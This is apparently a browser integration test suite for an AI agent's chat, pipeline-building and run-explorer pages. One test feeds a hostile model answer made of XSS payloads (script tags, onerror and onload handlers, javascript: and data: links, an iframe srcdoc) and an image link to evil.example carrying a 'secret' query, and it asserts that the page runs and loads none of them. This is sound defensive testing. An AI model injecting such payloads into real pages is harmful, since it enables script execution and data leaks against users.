"""The web page in a real Chromium: what a person does with it, and what a hostile text cannot do to it."""

import json
import time
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from pathlib import Path

import httpx
import pytest

from agent.sandbox.probe import find_missing_feature
from agent.storage.api_keys import SCOPES, KeyStore
from agent.storage.journal_sqlite import open_sqlite
from agent.storage.sql import SqliteClient
from tests.integration.conftest import Serve
from tests.integration.test_run_python import encode_png
from tests.page.conftest import devtools, model_server, serve
from tests.support.browser import BROWSER_TEST, Page, contrast, open_page
from tests.support.documents import Words, pdf
from tests.support.script import Script, plans, says, script
from tests.support.scripted_server import ScriptedServer
from tests.support.talks import papers

__all__ = ["devtools", "model_server", "serve"]  # fixtures

pytestmark = BROWSER_TEST

LONG = "The harbour was quiet. " * 12
HOSTILE = """<img src=x onerror="alert('img')"> and <script>alert('script')</script>

[press](javascript:alert('link')) and [data](data:text/html,<script>alert(1)</script>) and [fine](https://example.org/a)

![picture](https://evil.example/p.png?q=secret) <svg onload=alert('svg')></svg>

| a | b |
| --- | --- |
| <iframe srcdoc="<script>alert('cell')</script>"> | **bold** `<b>` |
"""

ANSWERED = (
    "document.querySelector('.talk .answer[aria-busy=false]') && document.querySelector('.talk [aria-label=Send]')"
)
"""A conversation's answer is there, and the next message can be sent."""


@asynccontextmanager
async def page_at(devtools: str, url: str, hash_: str = "") -> AsyncIterator[Page]:
    """A page without faults: nothing was thrown, and its policy had nothing to refuse."""
    async with open_page(devtools, f"{url}/{hash_}") as page:
        yield page
        assert page.faults == []
        assert page.dialogs == []


async def ask(page: Page, room: str, text: str) -> None:
    await page.until(f"document.querySelector('.composer select option[value={room}]')")
    await page.evaluate(f"document.querySelector('.composer select').value = '{room}'")
    await page.write(".chat textarea", text)
    await page.press("Enter")


async def key_for(data_dir: Path) -> str:
    store = await open_sqlite(data_dir / "stepgate.db")
    _, text = await KeyStore(SqliteClient(store.database), time.time).create("anna", "laptop", sorted(SCOPES))
    await store.close()
    return text


@pytest.mark.row("S000-53")
async def test_an_answer_appears_as_it_is_written(devtools: str, serve: Serve) -> None:
    slow = script(says(LONG, to="completion", chunk=12, pause_s=0.2), says(LONG, chunk=12, pause_s=0.2))
    async with serve(slow) as url, page_at(devtools, url) as page:
        await page.until("document.querySelectorAll('.card').length > 2")
        await page.evaluate(
            "(window.seen = [], new MutationObserver(() => {"
            " const text = document.querySelector('.answer .prose')?.textContent ?? '';"
            " if (text && text !== seen.at(-1)) seen.push(text);"
            "}).observe(document.querySelector('.log'), {subtree: true, childList: true, characterData: true}))"
        )
        await ask(page, "chat", "Describe the harbour.")
        await page.until("document.querySelector('.answer[aria-busy=false]')")
        seen: list[str] = await page.evaluate("window.seen")
        shown = await page.text(".answer .prose")
    assert shown.strip() == LONG.strip()
    assert len(seen) > 5, "in pieces"
    assert len(seen[0]) < len(LONG) / 4
    assert all(LONG.startswith(text.strip()) for text in seen)


async def test_a_welcome_longer_than_the_window_opens_at_its_top(devtools: str, serve: Serve) -> None:
    async with serve() as url, page_at(devtools, url) as page:
        await page.look_like(1280, 420)
        await page.until("document.querySelectorAll('.card').length > 2")
        box = "document.querySelector('.talking .scroll')"
        await page.until(f"{box}.scrollHeight > {box}.clientHeight")
        top = await page.evaluate(f"{box}.scrollTop")
    assert top == 0


@pytest.mark.row("S000-53")
async def test_a_hostile_answer_runs_nothing_and_loads_nothing(devtools: str, serve: Serve) -> None:
    model: Script = script(says(HOSTILE, chunk=7))
    async with serve(model) as url, page_at(devtools, url) as page:
        await ask(page, "chat", "Say something")
        await page.until("document.querySelector('.answer[aria-busy=false]')")
        shown = await page.text(".answer .prose")
        assert not await page.evaluate("document.querySelector('.prose :is(img, script, svg, iframe, style, object)')")
        links = await page.evaluate("[...document.querySelectorAll('.prose a')].map((a) => [a.href, a.rel])")
        loaded = await page.evaluate("performance.getEntriesByType('resource').map((one) => new URL(one.name).origin)")
        assert await page.evaluate("document.querySelector('.prose td strong').textContent") == "bold"
    assert "<img src=x onerror=" in shown, "what it wrote is read, not run"
    assert {link[0] for link in links} <= {"https://example.org/a", "https://evil.example/p.png?q=secret"}
    assert ["https://example.org/a", "noopener noreferrer"] in links
    assert set(loaded) == {url}


async def test_a_picture_that_a_program_made_is_shown(devtools: str, serve: Serve) -> None:
    if find_missing_feature() is not None:
        pytest.skip("this machine has no sandbox")
    calls = [{"tool": "run_python", "args": {"code": f"open('dot.png', 'wb').write({encode_png()!r})"}}]
    async with serve() as url, page_at(devtools, url) as page, httpx.AsyncClient(base_url=url, timeout=30) as http:
        answer = (await http.post("/v1/agent", json={"metadata": {"tool_calls": calls}})).json()
        await page.evaluate(
            "import(new URL('html.js', document.querySelector('script[type=module]').src)).then(({ showMarkdown }) => {"
            " const node = document.createElement('div'); document.body.append(node);"
            f" showMarkdown(node, {answer['response']!r}); }})"
        )
        await page.until("document.querySelector('img[alt=\"dot.png\"]')?.naturalWidth === 1")


async def test_a_chart_of_a_plan_is_shown_in_the_chat(devtools: str, serve: Serve) -> None:
    if find_missing_feature() is not None:
        pytest.skip("this machine has no sandbox")
    draw = {"tool": "run_python", "inputs": {"code": f"open('dot.png', 'wb').write({encode_png()!r})"}}
    model = script(plans(draw, {"tool": "completion"}), says("Here it is.", to="completion"))
    async with serve(model) as url, page_at(devtools, url) as page:
        await ask(page, "stepgate", "Draw a dot")
        await page.until("document.querySelector('.answer .prose img[alt=\"dot.png\"]')?.naturalWidth === 1")
        assert "Here it is." in await page.text(".answer .prose")


@pytest.mark.row("S000-53")
async def test_a_waiting_run_is_approved_with_a_button(devtools: str, serve: Serve, tmp_path: Path) -> None:
    rooms = tmp_path / "rooms"
    rooms.mkdir()
    (rooms / "careful.yaml").write_text("id: careful\nname: Careful\napproval: always\nsupervision: checks\n")
    model = script(
        plans({"tool": "calculator", "inputs": {"expression": "6*7"}}, {"tool": "completion"}),
        says("It is 42, as computed.", to="completion"),
    )
    async with serve(model, rooms_dir=rooms) as url, page_at(devtools, url) as page:
        await ask(page, "careful", "Compute it, please")
        await page.until("document.querySelector('.decision')")
        assert "calculator" in await page.text(".answer .prose")
        await page.click(".decision .primary")
        await page.until("document.querySelector('.answer[aria-busy=false] .prose')?.innerText.includes('It is 42')")
        await page.becomes("document.querySelector('.decision')", None)
        await page.until("document.querySelector('.steps summary')?.innerText.includes('2 steps')")
        await ask(page, "careful", "Compute it once more")
        await page.click(".decision .button:not(.primary)")
        await page.until("document.querySelectorAll('.answer')[1]?.innerText.includes('the plan was rejected')")


@pytest.mark.row("S000-54", "S000-55", "S000-56")
async def test_a_pipeline_is_built_doubted_and_applied(devtools: str, serve: Serve, tmp_path: Path) -> None:
    folder = papers(tmp_path / "data", 2)
    (folder / "broken.docx").write_bytes(b"no archive")
    async with serve(conversations_require_llm=False) as url, page_at(devtools, url, "#/build") as page:
        await page.write(".guide input[required]", str(folder))
        await page.write(".guide textarea", "research papers")
        await page.click(".guide .primary")
        await page.until("document.querySelector('.preview')?.innerText.includes('No pipeline yet')")
        await page.becomes("document.querySelector('.apply .primary')?.disabled", True)
        await page.until("document.querySelector('.flow')", 90_000)
        assert "structure" in await page.text(".flow"), "the chunker of the template"
        await page.until(ANSWERED, 90_000)
        looks = await page.evaluate(
            "['blocking', 'notable', 'info'].map((rank) => { const at = getComputedStyle(document.querySelector("
            "`.banner.${rank}`)); return [at.color, at.backgroundColor, at.borderTopStyle].join(); })"
        )
        assert len(set(looks)) == 3
        assert "could not" not in await page.text(".banner.info")
        state = "[document.querySelector('.apply .primary').disabled, document.getElementById('apply-why').textContent]"
        await page.becomes(state, [True, "1 question must be resolved first, or overridden."])
        await page.click(".apply input[type=checkbox]")
        await page.becomes(state, [False, ""])
        await page.click(".apply input[type=checkbox]")
        await page.becomes("document.querySelector('.apply .primary').disabled", True)
        await page.click(".banner.blocking .button:last-child")
        await page.until(
            "!document.querySelector('.banner.blocking') && !document.querySelector('.apply .primary').disabled"
        )
        await page.write(".apply input[name=collection]", "kelp")
        await page.click(".apply .primary")
        await page.until("document.querySelector('.job progress')")
        await page.until("document.querySelector('.job').innerText.includes('2 documents read into kelp')", 90_000)
        async with httpx.AsyncClient(base_url=url, timeout=10) as client:
            assert (await client.get("/v1/collections/kelp")).json()["documents"] == 2
        await page.until("document.querySelector('.build .dock .ended')")
        await page.until("document.querySelector('.build .dock').innerText.includes('its pipeline fills kelp')")
        await page.becomes("document.querySelector('.build .dock textarea, .banner, .bench .tag.blocking')", None)
        await page.evaluate("location.hash = '#/build'")
        await page.until("document.querySelector('.item')?.innerText.includes('applied')")


@pytest.mark.row("S000-54", "S002-28")
async def test_after_a_restart_a_question_still_says_what_is_asked(devtools: str, serve: Serve, tmp_path: Path) -> None:
    folder = papers(tmp_path / "data", 2)
    async with serve(conversations_require_llm=False) as url, page_at(devtools, url, "#/build") as page:
        await page.write(".guide input[required]", str(folder))
        await page.write(".guide textarea", "help me index these research papers")
        await page.click(".guide .primary")
        await page.until(ANSWERED, 90_000)
        assert await page.text(".talk .mine") == "help me index these research papers"
        await page.write(".talk textarea", "apply kelp anyway")
        await page.press("Enter")
        await page.until("document.querySelector('.decision')", 90_000)
        place = await page.evaluate("location.hash")
    async with serve(conversations_require_llm=False) as url, page_at(devtools, url, place) as page:
        await page.until("document.querySelector('.decision')")
        await page.until("document.querySelector('.talk .log').innerText.includes('(from your request): kelp')")
        told = await page.text(".talk .log")
        assert "Approval needed" in told
        assert all(word in told for word in ("apply_pipeline", "kelp", "force", "true"))
        assert "What is known so far" in told
        assert "The messages have expired" in told
        await page.evaluate("location.hash = '#/runs'")  # looked at again in the page that has the answer
        await page.evaluate(f"location.hash = '{place}'")
        await page.becomes("document.querySelector('.talk .log')?.innerText.split('Approval needed').length", 2)
        await page.click(".decision .primary")
        await page.until("document.querySelector('.build .dock .ended')", 90_000)
        await page.click(".ended .primary")
        await page.until("location.hash === '#/chat'")
        await page.until("document.querySelector('.chat textarea').value.includes('What do the documents in kelp say')")


@pytest.mark.row("S000-54", "S000-56")
async def test_an_ended_conversation_leads_on_and_another_is_abandoned(
    devtools: str, serve: Serve, tmp_path: Path
) -> None:
    folder = papers(tmp_path / "data", 2)
    async with serve(conversations_require_llm=False) as url, page_at(devtools, url, "#/build") as page:
        await page.write(".guide input[required]", str(folder))
        await page.write(".guide textarea", "help me index these research papers")
        await page.click(".guide .primary")
        await page.until(ANSWERED, 90_000)
        await page.write(".talk textarea", "apply kelp")
        await page.press("Enter")
        await page.until(
            "document.querySelector('.decision') && !document.querySelector('.answer[aria-busy=true]')", 20_000
        )
        await page.write(".talk textarea", "yes")
        await page.press("Enter")
        await page.until("document.querySelector('.build .dock .ended')", 90_000)
        await page.becomes("document.querySelector('.decision')", None)  # it was answered in words
        first = await page.evaluate("location.hash")
        await page.click(".ended button:not(.primary)")
        await page.until(f"location.hash !== '{first}' && document.querySelector('.talk textarea')")
        await page.until("document.querySelector('.flow')?.innerText.includes('structure')")
        assert "Proposed pipeline: template 'reports'" in await page.text(".talk .log")
        await page.click(".bench .plain")
        await page.until("document.querySelector('.bench .plain').innerText === 'Really abandon it?'")
        await page.click(".bench .plain")
        await page.until("document.querySelector('.build .dock').innerText.includes('was abandoned')")
        await page.becomes("document.querySelector('.bench .plain').checkVisibility()", False)


async def test_the_button_stops_a_message_of_a_conversation(
    devtools: str, serve: Serve, model_server: ScriptedServer, tmp_path: Path
) -> None:
    folder = papers(tmp_path / "data", 1)
    slow = script(says("never", to="skill", delay_s=20))
    async with serve(slow) as url, page_at(devtools, url, "#/build") as page:
        await page.write(".guide input[required]", str(folder))
        await page.click(".guide .primary")
        await page.until("document.querySelector('.talk .send[aria-label=Stop]:not(:disabled)')")
        async with httpx.AsyncClient(base_url=url, timeout=10) as client:
            while not [run for run in (await client.get("/v1/runs")).json()["data"] if run["status"] == "running"]:
                pass
        await page.click(".talk .send")
        await page.until(ANSWERED, 90_000)
        await page.until("document.querySelector('.talk .send[aria-label=Send]')")
        async with httpx.AsyncClient(base_url=url, timeout=10) as client:
            assert [run["status"] for run in (await client.get("/v1/runs")).json()["data"]] == ["cancelled"]


@pytest.mark.row("S004-08")
async def test_the_explorer_shows_plan_outputs_and_citations_to_the_holder_of_a_key(
    devtools: str, serve: Serve, tmp_path: Path
) -> None:
    key = await key_for(tmp_path / "data")
    book = pdf([Words("General remarks.")], [Words("Train tickets are booked by the travel desk.")])
    async with serve(require_key="always") as url:
        async with httpx.AsyncClient(base_url=url, timeout=30, headers={"authorization": f"Bearer {key}"}) as client:
            sent = await client.post("/v1/documents", files={"file": ("travel.pdf", book)}, data={"collection": "work"})
            assert sent.status_code == 201, sent.text
            asked = {"prompt": "Who books train tickets?", "room": "knowledge"}
            run = (await client.post("/v1/agent", json=asked)).json()["metadata"]["run_id"]
        async with page_at(devtools, url, f"#/runs/{run}") as page:
            await page.until("document.getElementById('key').open")
            await page.write("#key input", "sg_none_of_ours")
            await page.press("Enter")
            await page.until(
                "document.querySelector('#key .problem').textContent && document.getElementById('key').open"
            )
            await page.write("#key input", key)
            await page.press("Enter")
            await page.until("document.querySelectorAll('.graph .step').length === 2")
            await page.becomes("document.querySelectorAll('.graph .step.done').length", 2)
            await page.becomes("document.querySelectorAll('.edges path').length", 1)
            await page.until("document.querySelector('.run .prose').innerText.includes('travel desk')")
            await page.click(".graph .step")
            await page.until("document.querySelector('.trace details[open]')")
            step = await page.text(".trace details[open]")
            assert "Who books train tickets?" in step, "its arguments"
            assert "Train tickets are booked by the travel desk" in step, "its output"
            assert "SUCCESS by the checks" in step, "its verdict"
            assert "Train tickets are booked" in await page.text(".quotes")
            await page.click(".run .prose button.cite")
            await page.until("document.querySelector('#panel blockquote')")
            panel = await page.text("#panel")
            assert "travel.pdf" in panel
            assert "page 2" in panel
            await page.click("#panel .row .button:nth-child(1)")
            assert "Train tickets" in await page.until("document.querySelector('#panel mark')?.textContent")
            await page.click("#panel .row .button:nth-child(3)")
            assert "Verified" in await page.until("document.querySelector('#panel .proof')?.innerText")
            await page.click("#panel .row .button:nth-child(2)")
            opened_file = await page.until("document.querySelector('#panel a[href^=blob]')?.href")
            assert opened_file.endswith("#page=2")
            assert await page.opens(opened_file)
            await page.press("Escape")
            await page.until("document.getElementById('panel').hidden")
            await page.becomes("document.activeElement.className", "cite")  # where the reader was
            kept = await page.evaluate("[localStorage.length, document.cookie, Object.values(sessionStorage)]")
            assert kept == [0, "", [key]]


@pytest.mark.row("S004-08")
async def test_a_run_that_goes_on_is_followed_until_its_end(devtools: str, serve: Serve) -> None:
    model = script(
        plans({"tool": "calculator", "inputs": {"expression": "6*7"}}, {"tool": "completion"}),
        says(LONG, to="completion", chunk=12, pause_s=0.12),
    )
    asked = {"prompt": "Compute and describe the harbour", "stream": True}
    async with serve(model) as url, page_at(devtools, url, "#/runs") as page, httpx.AsyncClient(timeout=30) as client:
        await page.until("document.querySelector('.empty')?.checkVisibility()")
        async with client.stream("POST", f"{url}/v1/agent", json=asked) as answering:
            await page.evaluate(f"location.hash = '#/runs/{answering.headers['x-stepgate-run-id']}'")
            await page.until("document.querySelector('.run .dot.running') && document.querySelector('.run .prose p')")
            early = await page.text(".run .prose")
            assert len(early) < len(LONG)
            assert LONG.startswith(early), "from its beginning, although it was opened late"
            await page.becomes("document.querySelectorAll('.graph .step').length", 2)
            await page.until("document.querySelector('.run .dot.succeeded')")
            await page.becomes("document.querySelector('.run .prose').innerText.trim()", LONG.strip())
            await page.until("document.querySelector('.item[aria-current] .dot.succeeded')")


async def test_it_reads_well_in_both_schemes_and_on_narrow_screens(devtools: str, serve: Serve) -> None:
    pairs = [
        ("ink", "paper"), ("quiet", "paper"), ("quiet", "surface"), ("quiet", "sunken"), ("accent", "surface"),
        ("accent", "soft"), ("on-accent", "accent"), ("bad", "bad-soft"), ("bad", "surface"), ("warn", "warn-soft"),
        ("info", "info-soft"), ("ink", "mark"),
    ]  # fmt: skip
    async with serve() as url, page_at(devtools, url) as page:
        for dark in (False, True):
            await page.look_like(390, 844, dark=dark)
            names = sorted({name for pair in pairs for name in pair})
            style = "getComputedStyle(document.documentElement)"
            colours = await page.evaluate(f"{json.dumps(names)}.map((name) => {style}.getPropertyValue('--' + name))")
            known = dict(zip(names, colours, strict=True))
            faint = {pair: ratio for pair in pairs if (ratio := contrast(known[pair[0]], known[pair[1]])) < 4.5}
            assert faint == {}, "WCAG 2.2, 1.4.3"
        for hash_, there in (("#/chat", ".card"), ("#/build", ".guide"), ("#/runs", "[aria-label=Runs] .items li")):
            await page.evaluate(f"location.hash = '{hash_}'")
            await page.until(f"document.querySelector('{there}')?.checkVisibility()")
            assert await page.evaluate("document.documentElement.scrollWidth") <= 390
            nodes = (await page.send("Accessibility.getFullAXTree"))["nodes"]
            roles = {"button", "link", "textbox", "combobox", "checkbox", "radio", "navigation"}
            unnamed = [
                node["role"]["value"]
                for node in nodes
                if not node["ignored"] and node["role"]["value"] in roles and not node.get("name", {}).get("value")
            ]
            assert unnamed == [], hash_
